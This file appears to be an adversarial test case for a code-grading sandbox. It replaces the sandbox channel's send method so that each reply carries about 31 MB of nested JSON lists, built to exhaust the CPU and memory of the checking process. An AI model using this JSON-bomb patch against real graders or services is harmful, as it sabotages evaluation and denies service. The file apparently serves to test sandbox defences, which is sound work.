"""An attack written after the reference solution, which the test puts before it."""

# ---- attack: every reply carries 31 MB of nested empty JSON lists (under the 32 MB cap), built once
# at load in a few milliseconds and written in a few more; the tests' process spends ~7.6 s of CPU and
# ~1.3 GB of memory decoding each one (json.loads is one C call: no watchdog tick can stop it).
import sys as _sys
_channel = _sys.modules.get("kata.sandbox.channel")
if _channel is not None:
    _BOMB = b',"pad":[' + b",".join([b"[" * 64 + b"]" * 64] * (31_000_000 // 131)) + b"]}\n"

    def _send(self, message, _json=_channel.json, _os=_channel.os):
        data = _json.dumps(message, separators=(",", ":")).encode("ascii")
        data = data[:-1] + (_BOMB if "op" not in message and "ready" not in message else b"}\n")
        view = memoryview(data)
        while view:
            view = view[_os.write(self.write_fd, view):]

    _channel.Channel.send = _send
